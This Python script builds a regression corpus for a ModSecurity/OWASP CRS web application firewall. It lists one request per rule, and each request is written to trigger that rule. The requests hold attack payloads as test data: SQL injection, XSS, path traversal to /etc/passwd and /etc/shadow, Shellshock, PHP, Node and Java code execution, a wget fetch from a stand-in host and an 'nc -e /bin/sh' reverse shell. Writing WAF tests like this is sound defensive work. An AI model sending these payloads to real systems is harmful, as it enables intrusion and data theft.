"""Writes crs_regression.jsonl: one request per CRS rule under test, as CRS's own
regression tests do it (a request that must make its rule fire; and clean ones that
must make nothing fire), with what fires at paranoia level 1.

    .venv/bin/python tests/waf/corpus/make_crs_regression.py   # rewrites the file

A line: {"id", "rule" (the rule under test; null for a clean request), "method",
"target", "headers" ([[name, value]], Host first), "body", "fires" (every rule id
that matched, sorted, without the blocking check 949110), "status" (403, or 0 when
the request passes)}. "fires" is what stockade's ctypes binding with Debian's
libmodsecurity3 and modsecurity-crs (3.3.4) gives, with stockade's engine settings
and CRS setup and without the API profile; tests/waf/test_crs_regression.py checks
that it still does, and bench/waf_engines.py runs the same requests through other
engine builds. REQUEST-910 (IP reputation, which needs GeoIP) is not loaded, so
that an engine built without GeoIP can run the same rules.
"""

from __future__ import annotations

import json
import sys
from pathlib import Path
from typing import Any

HERE = Path(__file__).resolve().parent
OUT = HERE / "crs_regression.jsonl"
UA = "Mozilla/5.0 (X11; Linux x86_64; rv:121.0) Gecko/20100101 Firefox/121.0"
BASE = (("Host", "api.example.com"), ("User-Agent", UA), ("Accept", "application/json"))
JSON = (("Content-Type", "application/json"),)
FORM = (("Content-Type", "application/x-www-form-urlencoded"),)

# (rule under test, method, target, extra headers, body); a header named in the extra
# headers replaces the base one, and a value of None drops it.
Case = tuple[str | None, str, str, tuple[tuple[str, str | None], ...], str]
CASES: tuple[Case, ...] = (
    # clean requests: nothing may fire
    (None, "GET", "/api/items?page=2&sort=name", (), ""),
    (None, "POST", "/api/orders", JSON, '{"order": {"sku": "A-1", "qty": 2}}'),
    (None, "POST", "/api/comments", FORM, "name=Jane&comment=Thanks%2C+works+now"),
    (None, "GET", "/api/search?q=red+winter+coat", (), ""),
    (None, "DELETE", "/api/items/42", (), ""),
    # 911 method enforcement
    ("911100", "TRACK", "/api/items", (), ""),
    # 913 scanners
    ("913100", "GET", "/api/items", (("User-Agent", "sqlmap/1.7.2#stable"),), ""),
    ("913100", "GET", "/", (("User-Agent", "Mozilla/5.00 (Nikto/2.1.6) (Evasions:None)"),), ""),
    # 920 protocol enforcement
    ("920160", "POST", "/api/orders", (("Content-Length", "12a"),), ""),
    ("920170", "GET", "/api/items", (("Content-Length", "5"),), "hello"),
    ("920220", "GET", "/api/items?q=%zz", (), ""),
    ("920270", "GET", "/api/items?q=a%00b", (), ""),
    ("920280", "GET", "/api/items", (("Host", None),), ""),
    ("920290", "GET", "/api/items", (("Host", ""),), ""),
    ("920340", "POST", "/api/orders", (("Content-Length", "3"),), "a=b"),
    ("920350", "GET", "/api/items", (("Host", "198.18.0.2"),), ""),
    ("920420", "POST", "/api/orders", (("Content-Type", "application/x-evil"),), "x"),
    ("920440", "GET", "/backup/site.bak", (), ""),
    ("920450", "GET", "/api/items", (("Proxy", "http://198.18.5.5/"),), ""),
    ("920330", "GET", "/api/items", (("User-Agent", ""),), ""),
    # 921 protocol attacks
    ("921110", "POST", "/api/comments", FORM, "x=GET%20/admin%20HTTP/1.1%0d%0aHost:%20y"),
    ("921120", "GET", "/api/items?x=%0d%0aContent-Type:%20text/html", (), ""),
    ("921130", "GET", "/api/items?x=%3Cmeta%20http-equiv=refresh%3E", (), ""),
    ("921160", "GET", "/api/items?x=%0d%0aSet-Cookie:%20a%3db", (), ""),
    # 930 local file inclusion
    ("930100", "GET", "/api/items?file=%2e%2e%2f%2e%2e%2fetc%2fpasswd", (), ""),
    ("930110", "GET", "/api/items?file=../../../../etc/passwd", (), ""),
    ("930120", "GET", "/api/items?file=/etc/shadow", (), ""),
    ("930130", "GET", "/.git/config", (), ""),
    # 931 remote file inclusion
    ("931100", "GET", "/api/items?inc=http://198.18.5.5/shell.txt", (), ""),
    ("931120", "GET", "/api/items?inc=http://evil.example/x.txt?", (), ""),
    # 932 remote command execution
    ("932100", "GET", "/api/ping?host=127.0.0.1;cat%20/etc/passwd", (), ""),
    ("932105", "POST", "/api/ping", JSON, '{"host": "8.8.8.8 && wget http://198.18.5.5/a"}'),
    ("932110", "GET", "/api/ping?c=x%26%20ipconfig%20/all", (), ""),
    ("932130", "GET", "/api/ping?x=$(id)", (), ""),
    ("932150", "GET", "/api/ping?x=nc%20-e%20/bin/sh%20198.18.5.5%204444", (), ""),
    ("932160", "GET", "/api/ping?x=/bin/bash", (), ""),
    ("932170", "GET", "/api/items", (("User-Agent", "() { :;}; /bin/bash -c id"),), ""),
    # 933 PHP
    ("933100", "POST", "/api/comments", FORM, "c=%3C%3Fphp+system%28%27id%27%29%3B+%3F%3E"),
    ("933140", "GET", "/api/items?x=php://input", (), ""),
    ("933160", "GET", "/api/items?x=phpinfo()", (), ""),
    ("933150", "GET", "/api/items?x=file_get_contents(%27/etc/passwd%27)", (), ""),
    (
        "933170",
        "POST",
        "/api/items",
        JSON,
        '{"x": "O:8:\\"stdClass\\":1:{s:1:\\"a\\";s:1:\\"b\\";}"}',
    ),
    # 934 Node.js
    (
        "934100",
        "POST",
        "/api/items",
        JSON,
        "{\"x\": \"_$$ND_FUNC$$_function(){require('child_process').exec('id')}()\"}",
    ),
    # 941 XSS
    ("941100", "GET", "/api/search?q=%3Cscript%3Ealert(1)%3C/script%3E", (), ""),
    ("941110", "POST", "/api/items", JSON, '{"bio": "<script src=//x.example/a.js></script>"}'),
    ("941160", "GET", "/api/search?q=%3Cimg%20src=x%20onerror=alert(1)%3E", (), ""),
    ("941170", "GET", "/api/search?next=javascript:alert(1)", (), ""),
    ("941180", "GET", "/api/search?q=document.cookie", (), ""),
    ("941210", "GET", "/api/search?q=ja%26%23x09%3Bvascript:alert(1)", (), ""),
    # 942 SQL injection
    ("942100", "GET", "/api/items?id=1%27%20OR%20%271%27=%271", (), ""),
    ("942100", "POST", "/api/items", JSON, '{"filter": {"name": "x\' OR 1=1 --"}}'),
    ("942140", "GET", "/api/items?q=select%20*%20from%20information_schema.tables", (), ""),
    ("942160", "GET", "/api/items?id=1%20AND%20SLEEP(5)", (), ""),
    (
        "942190",
        "GET",
        "/api/items?id=-1%20UNION%20SELECT%20username,password%20FROM%20users",
        (),
        "",
    ),
    ("942270", "GET", "/api/items?id=1%20union%20select%20null%20from%20dual", (), ""),
    ("942290", "GET", "/api/items?user[$ne]=1", (), ""),
    ("942360", "POST", "/api/items", JSON, '{"address": "4 Insert Road, Unit 7/2"}'),
    # 943 session fixation
    (
        "943100",
        "GET",
        "/api/items?x=document.cookie%3D%22sid%3D1%3B%20domain%3Dexample.com%22",
        (),
        "",
    ),
    # 944 Java
    ("944100", "GET", "/api/items?x=java.lang.Runtime.getRuntime().exec(%27id%27)", (), ""),
    ("944130", "POST", "/api/items", JSON, '{"x": "java.lang.ProcessBuilder"}'),
)


def headers(extra: tuple[tuple[str, str | None], ...], body: str) -> list[list[str]]:
    named = {name.lower(): value for name, value in extra}
    out = [[n, named.get(n.lower(), v)] for n, v in BASE if named.get(n.lower(), v) is not None]
    out = [[n, v] for n, v in out if v is not None]
    base = {n.lower() for n, _ in BASE}
    out += [[n, v] for n, v in extra if n.lower() not in base and v is not None]
    if body and "content-length" not in named:
        out.append(["Content-Length", str(len(body.encode()))])
    return [[n, str(v)] for n, v in out]


def lines() -> list[dict[str, Any]]:
    from bench.waf_engines import evaluate, reference

    engine = reference()
    try:
        out = []
        for n, (rule, method, target, extra, body) in enumerate(CASES, 1):
            request: dict[str, Any] = {
                "id": f"r{n:03d}",
                "rule": rule,
                "method": method,
                "target": target,
                "headers": headers(extra, body),
                "body": body,
            }
            status, fired = evaluate(engine, request)
            if rule is not None and rule not in fired:
                raise SystemExit(f"{request['id']}: {rule} does not fire ({fired})")
            if rule is None and fired:
                raise SystemExit(f"{request['id']}: a clean request fires {fired}")
            out.append({**request, "fires": fired, "status": status})
        return out
    finally:
        engine.close()


def main() -> None:
    sys.path.insert(0, str(HERE.parents[2]))  # bench/ is not installed: from the tree
    text = "".join(json.dumps(line, sort_keys=True) + "\n" for line in lines())
    OUT.write_text(text)
    print(f"{OUT}: {text.count(chr(10))} requests")


if __name__ == "__main__":
    main()
